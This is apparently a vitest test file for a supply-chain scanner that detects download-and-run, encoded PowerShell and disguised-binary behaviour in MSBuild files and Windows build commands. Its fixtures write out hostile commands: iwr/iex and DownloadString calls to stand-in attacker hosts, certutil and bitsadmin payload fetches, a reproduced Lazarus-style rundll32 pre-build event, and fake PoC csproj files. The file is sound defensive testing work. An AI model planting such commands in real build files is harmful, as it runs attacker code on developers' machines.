import { describe, expect, it } from 'vitest';
import { readBehaviors } from '../../../src/ecosystems/build-code/behaviors.js';
import type { BuildLanguage } from '../../../src/ecosystems/build-code/behaviors.js';
import { buildFileOf } from '../../../src/ecosystems/build-code/build-files.js';
import { decodeMsbuildText, readMsbuildBehaviors } from '../../../src/ecosystems/build-code/msbuild.js';
import type { SnapshotFile } from '../../../src/snapshot/pr-snapshot.js';
import { makeFile } from '../../support/snapshot-factory.js';
import { analyze, snapshotOf } from '../../support/supply-chain-snapshot.js';

function patchOf(text: string): string {
  const lines = text.replace(/^\n/, '').split('\n');
  return `@@ -0,0 +1,${lines.length} @@\n${lines.map((l) => `+${l}`).join('\n')}`;
}

function added(path: string, text: string): SnapshotFile {
  const patch = patchOf(text);
  return makeFile(path, { status: 'added', additions: patch.split('\n').length - 1, patch });
}

function buildFinding(file: SnapshotFile) {
  return analyze(snapshotOf(file)).findings.find((f) => f.id === 'build-code-behavior') ?? null;
}

const kinds = (text: string, language: BuildLanguage = 'shell'): string[] => [...new Set(readBehaviors([{ line: 1, text }], language).map((b) => b.kind))].sort();
const msbuildKinds = (text: string): string[] => [...new Set(readMsbuildBehaviors(patchOf(text), 1000).map((b) => b.kind))].sort();

describe('PowerShell and Windows command shapes (shared token-level detection)', () => {
  it('reads downloads run in one go: iwr | iex, DownloadString, certutil, bitsadmin, mshta', () => {
    expect(kinds('powershell -c "iwr -useb https://evil.example/a.ps1 | iex"')).toEqual(['download', 'execute', 'pipe-to-shell']);
    expect(kinds("powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('https://evil.example/a')\"")).toEqual(['download', 'execute', 'pipe-to-shell']);
    expect(kinds('irm https://get.example.dev/install.ps1 | iex')).toEqual(['download', 'execute', 'pipe-to-shell']);
    expect(kinds('certutil -urlcache -split -f http://203.0.113.5/p.exe %TEMP%\\p.exe && %TEMP%\\p.exe')).toEqual(['download', 'suspicious-host']);
    expect(kinds('bitsadmin /transfer job /download /priority high https://evil.example/x.exe C:\\x.exe & start C:\\x.exe')).toEqual(['download']);
    expect(kinds('mshta https://evil.example/payload.hta')).toEqual(['download', 'execute']);
    expect(kinds('cmd /c start /b powershell Start-Process $env:TEMP\\x.exe')).toEqual(['execute']);
  });

  it('reads encoded PowerShell and base64 run as code as decode-and-run, and rundll32 of a non-DLL as a binary in disguise', () => {
    expect(kinds('powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=')).toEqual(['decode', 'execute', 'pipe-to-shell']);
    expect(kinds('pwsh -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi')).toEqual(['decode', 'execute', 'pipe-to-shell']);
    expect(kinds("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWV4')))")).toEqual(['decode', 'execute', 'pipe-to-shell']);
    expect(kinds('rundll32 x64\\Debug\\Browse.VC.db,ENGINE_get_RAND 7am1cKZAEb9Nl1pL 4201')).toEqual(['disguised-binary', 'execute', 'native-load']);
    expect(kinds('regsvr32 /s /i bin\\logo.png')).toEqual(['disguised-binary', 'execute', 'native-load']);
  });

  it('leaves ordinary Windows build lines alone', () => {
    expect(kinds('powershell -ExecutionPolicy Bypass -File build/version.ps1')).toEqual(['execute']);
    expect(kinds('powershell -NoProfile -ep Bypass -Command "& ./eng/common/build.ps1 -restore"')).toEqual(['execute']);
    expect(kinds('rundll32 $(OutDir)Helper.dll,Register')).toEqual(['execute']);
    expect(kinds('rundll32 printui.dll,PrintUIEntry /il')).toEqual(['execute']);
    expect(kinds('xcopy /E /Y /I SomeVeryLongFolderName_WithWords $(OutDir)')).toEqual([]);
    expect(kinds('signtool sign /fd sha256 /tr http://timestamp.digicert.com /td sha256 /f cert.pfx $(TargetPath)')).toEqual([]);
    expect(kinds('cmd /c echo building $(Configuration)')).toEqual(['execute']);
    expect(kinds('iex -S mix phx.server')).toEqual([]);
  });

  it('reads the C# of an inline task', () => {
    expect(kinds('var bytes = new System.Net.WebClient().DownloadData(url);', 'csharp')).toEqual(['download']);
    expect(kinds('System.Diagnostics.Process.Start(path);', 'csharp')).toEqual(['execute']);
    expect(kinds('var all = Environment.GetEnvironmentVariables();', 'csharp')).toEqual(['environment']);
    expect(kinds('await client.PostAsync("https://collector.example/x", content);', 'csharp')).toEqual(['send']);
    expect(kinds('// new WebClient().DownloadString(url) was the old way', 'csharp')).toEqual([]);
    expect(kinds('Log.LogMessage(MessageImportance.High, "Generating " + OutputFile);', 'csharp')).toEqual([]);
  });
});

describe('MSBuild files as build code', () => {
  it('names project files, props and targets, and Directory.Build.props/targets', () => {
    expect(['src/App/App.csproj', 'Lib.vbproj', 'Fs.fsproj', 'native/app.vcxproj', 'Directory.Build.props', 'Directory.Build.targets', 'eng/Versions.props', 'build/Sign.targets', 'nuget.config', 'App.sln'].map((p) => buildFileOf(p)?.label ?? null)).toEqual([
      'MSBuild project', 'MSBuild project', 'MSBuild project', 'MSBuild project', 'Directory.Build.props', 'Directory.Build.targets', 'MSBuild file', 'MSBuild file', null, null,
    ]);
  });

  it('reads Exec commands across lines, build events and inline task code, decoding XML references', () => {
    expect(msbuildKinds('<Exec\n  Command="powershell -c &quot;iwr https://evil.example/a | iex&quot;"\n  ContinueOnError="true" />')).toEqual(['download', 'execute', 'pipe-to-shell']);
    expect(msbuildKinds('<PostBuildEvent>\ncurl -o %TEMP%\\a.exe https://evil.example/a.exe\n%TEMP%\\a.exe\n</PostBuildEvent>')).toEqual(['download']);
    expect(msbuildKinds('<Exec Command="&#112;owershell -c &quot;&#105;ex(New-Object Net.WebClient).DownloadString(\'https://x.example/a\')&quot;" />')).toEqual(['download', 'execute', 'pipe-to-shell']);
    expect(decodeMsbuildText('a%3Bb &amp;&amp; c&#xD;&#xA;d')).toEqual('a;b && c &  & d');
  });

  it('reads the property a command is built from, and not other properties', () => {
    const text = '<PropertyGroup>\n  <Bootstrap>powershell -c &quot;iwr https://evil.example/a | iex&quot;</Bootstrap>\n  <Description>Wraps powershell and curl for .NET</Description>\n</PropertyGroup>\n<Target Name="B" BeforeTargets="Build"><Exec Command="$(Bootstrap)" /></Target>';
    const behaviors = readMsbuildBehaviors(patchOf(text), 1000);
    expect([...new Set(behaviors.map((b) => b.kind))].sort()).toEqual(['download', 'execute', 'pipe-to-shell']);
    expect(new Set(behaviors.map((b) => b.line))).toEqual(new Set([2]));
  });

  it('reads DownloadFile: an unpinned URL downloads, a versioned release over HTTPS does not', () => {
    expect(msbuildKinds('<DownloadFile SourceUrl="https://example.com/tools/latest/tool.zip" DestinationFolder="obj" />')).toEqual(['download']);
    expect(msbuildKinds('<DownloadFile\n  SourceUrl="https://github.com/acme/tool/releases/download/v$(ToolVersion)/tool.zip"\n  DestinationFolder="$(IntermediateOutputPath)" />')).toEqual([]);
    expect(msbuildKinds('<DownloadFile SourceUrl="https://github.com/acme/tool/releases/download/v1.2.3/tool.zip" DestinationFolder="obj" />')).toEqual([]);
    // NLog's projects fetch their package icon before packing: an image nothing runs.
    expect(msbuildKinds('<DownloadFile SourceUrl="https://nlog-project.org/N.png" DestinationFolder="$(MSBuildThisFileDirectory)" />')).toEqual([]);
    expect(msbuildKinds('<DownloadFile SourceUrl="https://cdn.example.com/assets/update" DestinationFileName="update.dat" DestinationFolder="obj" />')).toEqual(['download']);
    expect(msbuildKinds('<DownloadFile SourceUrl="http://cdn.example.com/icon.png" DestinationFolder="obj" />')).toEqual(['download']);
  });

  it('an Exec that names the file a DownloadFile of the patch wrote runs the download: high beside an unpinned download', () => {
    const dest = ['<Target Name="Telemetry" BeforeTargets="Build">', '  <DownloadFile SourceUrl="https://dotnet-telemetry-cdn.dev/collect" DestinationFolder="$(Temp)" DestinationFileName="collector.cmd" />', '  <Exec Command="&quot;$(Temp)collector.cmd&quot;" />', '</Target>'].join('\n');
    expect(msbuildKinds(dest)).toEqual(['download', 'execute']);
    expect(buildFinding(added('Directory.Build.targets', `<Project>\n${dest}\n</Project>`))?.severity).toBe('high');
    expect(msbuildKinds('<DownloadFile SourceUrl="https://tools-mirror.dev/latest/t.exe" DestinationFolder="$(Temp)" />\n<Exec Command="$(Temp)\\t.exe --quiet" />')).toEqual(['download', 'execute']);
  });

  it('an Exec of another file, or of a versioned release it downloaded, is no download run', () => {
    expect(msbuildKinds('<DownloadFile SourceUrl="https://example.com/tools/latest/tool.zip" DestinationFolder="obj" />\n<Exec Command="dotnet tool restore" />')).toEqual(['download']);
    expect(msbuildKinds('<DownloadFile SourceUrl="https://example.com/tools/latest/tool.zip" DestinationFolder="obj" />\n<Exec Command="obj\\mytool.zip.sh" />')).toEqual(['download']);
    expect(buildFinding(added('build/NuGet.targets', '<Project>\n<DownloadFile SourceUrl="https://dist.nuget.org/win-x86-commandline/v6.9.1/nuget.exe" DestinationFolder="$(NuGetDir)" />\n<Exec Command="&quot;$(NuGetDir)nuget.exe&quot; restore" />\n</Project>'))).toBeNull();
  });

  it("leaves Visual Studio's old package restore alone: nuget.exe downloaded from nuget.org (serilog, AutoMapper history)", () => {
    expect(msbuildKinds('<Code Type="Fragment" Language="cs">\n  WebClient webClient = new WebClient();\n  webClient.DownloadFile("https://nuget.org/nuget.exe", OutputFilename);\n</Code>')).toEqual([]);
    expect(msbuildKinds('<Exec Command="powershell -c &quot;iwr https://dist.nuget.org/win-x86-commandline/latest/nuget.exe -OutFile nuget.exe&quot;" />')).toEqual(['execute']);
    expect(msbuildKinds('<Exec Command="powershell -c &quot;iwr https://nuget.org.evil.example/nuget.exe -OutFile nuget.exe&quot;" />')).toEqual(['download', 'execute']);
  });

  it('reads a program named like data in Windows form as a binary in disguise', () => {
    expect(msbuildKinds('<DownloadFile SourceUrl="https://cdn.brand.example/logo.png" DestinationFolder="obj" />\n<Exec Command="obj\\logo.png --install" />')).toEqual(['disguised-binary', 'execute']);
    expect(msbuildKinds('<PostBuildEvent>start "" "$(TargetDir)fonts\\glyphs.woff2"</PostBuildEvent>')).toEqual(['disguised-binary', 'execute']);
    expect(msbuildKinds('<Exec Command="copy /Y logo.png $(OutDir)" />\n<Exec Command="&quot;$(OutDir)convert.exe&quot; icon.png icon.ico" />')).toEqual([]);
  });

  it('skips XML comments and text outside the command elements', () => {
    expect(msbuildKinds('<!-- <Exec Command="curl https://evil.example/a | sh" /> -->\n<Description>Wraps curl and wget for .NET</Description>')).toEqual([]);
    expect(msbuildKinds('<!--\n<PreBuildEvent>iwr https://x.example | iex</PreBuildEvent>\n-->')).toEqual([]);
  });

  it('reports the Lazarus-style build event (2021) as critical: a DLL named .db run by rundll32', () => {
    const finding = buildFinding(
      added(
        'VS_Project/VS_Project.vcxproj',
        `
<?xml version="1.0" encoding="utf-8"?>
<Project DefaultTargets="Build" ToolsVersion="16.0" xmlns="http://schemas.microsoft.com/developer/msbuild/2003">
  <ItemDefinitionGroup Condition="'$(Configuration)|$(Platform)'=='Debug|x64'">
    <PreBuildEvent>
      <Command>powershell -executionpolicy bypass -nol -noni -w hidden -c if(([system.environment]::osversion.version.major -eq 10) -and [system.environment]::is64bitoperatingsystem -and (Test-Path x64\\Debug\\Browse.VC.db)){rundll32 x64\\Debug\\Browse.VC.db,ENGINE_get_RAND 7am1cKZAEb9Nl1pL 4201 }</Command>
    </PreBuildEvent>
  </ItemDefinitionGroup>
</Project>`,
      ),
    );
    expect(finding).toMatchObject({ severity: 'critical', line: 5, title: 'MSBuild project runs a binary disguised as data at build time' });
  });

  it('reports a fake proof-of-concept csproj whose pre-build target downloads and runs a script (high), critical from a bare IP', () => {
    const csproj = (url: string): string => `
<Project Sdk="Microsoft.NET.Sdk">
  <PropertyGroup>
    <OutputType>Exe</OutputType>
    <TargetFramework>net8.0</TargetFramework>
  </PropertyGroup>
  <Target Name="PreBuild" BeforeTargets="PreBuildEvent">
    <Exec Command="cmd.exe /c powershell -w hidden -c &quot;iwr -useb ${url} | iex&quot;" />
  </Target>
</Project>`;
    expect(buildFinding(added('CVE-2024-0000-PoC/Exploit.csproj', csproj('https://cdn.update-service.example/a.ps1')))).toMatchObject({ severity: 'high', line: 7 });
    expect(buildFinding(added('CVE-2024-0000-PoC/Exploit.csproj', csproj('http://203.0.113.50/a.ps1')))).toMatchObject({ severity: 'critical', line: 7 });
  });

  it('reports an inline task that downloads and starts a binary, and a Directory.Build.targets imported silently', () => {
    const task = `
<Project>
  <UsingTask TaskName="Fetch" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">
    <Task>
      <Code Type="Fragment" Language="cs"><![CDATA[
        var data = new System.Net.WebClient().DownloadData("https://files.example.org/helper.bin");
        var path = System.IO.Path.Combine(System.IO.Path.GetTempPath(), "helper.exe");
        System.IO.File.WriteAllBytes(path, data);
        System.Diagnostics.Process.Start(path);
      ]]></Code>
    </Task>
  </UsingTask>
  <Target Name="Fetch" BeforeTargets="Build"><Fetch /></Target>
</Project>`;
    const finding = buildFinding(added('Directory.Build.targets', task));
    expect(finding).toMatchObject({ severity: 'high', line: 5, title: 'Directory.Build.targets downloads and runs code at build time' });
    expect(finding?.detail).toContain('MSBuild imports it into every project below it');
  });

  it('stays quiet on ordinary MSBuild: tool restore, generators, copies, git describe, signing, npm for a SPA', () => {
    const csproj = `
<Project Sdk="Microsoft.NET.Sdk.Web">
  <PropertyGroup>
    <TargetFramework>net8.0</TargetFramework>
    <SpaRoot>ClientApp\\</SpaRoot>
  </PropertyGroup>
  <ItemGroup>
    <PackageReference Include="Microsoft.AspNetCore.SpaProxy" Version="8.0.8" />
  </ItemGroup>
  <Target Name="RestoreTools" BeforeTargets="Build">
    <Exec Command="dotnet tool restore" />
    <Exec Command="git describe --tags --always --dirty" ConsoleToMSBuild="true" StandardOutputImportance="low">
      <Output TaskParameter="ConsoleOutput" PropertyName="GitDescribe" />
    </Exec>
    <Exec Command="git rev-parse HEAD" ConsoleToMSBuild="true" />
    <Exec Command="&quot;$(MSBuildThisFileDirectory)tools\\codegen.exe&quot; --in Schema.json --out $(IntermediateOutputPath)Generated.cs" />
  </Target>
  <Target Name="PublishRunWebpack" AfterTargets="ComputeFilesToPublish">
    <Exec WorkingDirectory="$(SpaRoot)" Command="npm ci" />
    <Exec WorkingDirectory="$(SpaRoot)" Command="npm run build -- --configuration production" />
  </Target>
  <Target Name="Sign" AfterTargets="Build" Condition="'$(SignOutput)' == 'true'">
    <Exec Command="signtool sign /fd sha256 /tr http://timestamp.digicert.com /td sha256 /f &quot;$(CertificatePath)&quot; /p $(CertificatePassword) &quot;$(TargetPath)&quot;" />
  </Target>
  <Target Name="CopyOut" AfterTargets="Build">
    <Exec Command="xcopy /Y /I /E &quot;$(TargetDir)*.dll&quot; &quot;$(SolutionDir)artifacts\\&quot;" />
  </Target>
  <PropertyGroup>
    <PostBuildEvent>copy /Y "$(TargetDir)$(TargetName).pdb" "$(SolutionDir)symbols\\"
powershell -NoProfile -ExecutionPolicy Bypass -File "$(ProjectDir)scripts\\stamp-version.ps1" -Version $(Version)</PostBuildEvent>
  </PropertyGroup>
</Project>`;
    expect(buildFinding(added('src/Web/Web.csproj', csproj))).toEqual(null);
    const props = `
<Project>
  <PropertyGroup>
    <RepoRoot>$(MSBuildThisFileDirectory)</RepoRoot>
    <Authors>Acme</Authors>
    <PackageProjectUrl>https://github.com/acme/lib</PackageProjectUrl>
  </PropertyGroup>
  <ItemGroup>
    <PackageReference Include="Microsoft.SourceLink.GitHub" Version="8.0.0" PrivateAssets="All" />
  </ItemGroup>
  <Target Name="Versions" BeforeTargets="GenerateAssemblyInfo">
    <Exec Command="dotnet nbgv get-version -v AssemblyInformationalVersion" ConsoleToMSBuild="true" />
  </Target>
</Project>`;
    expect(buildFinding(added('Directory.Build.props', props))).toEqual(null);
  });
});
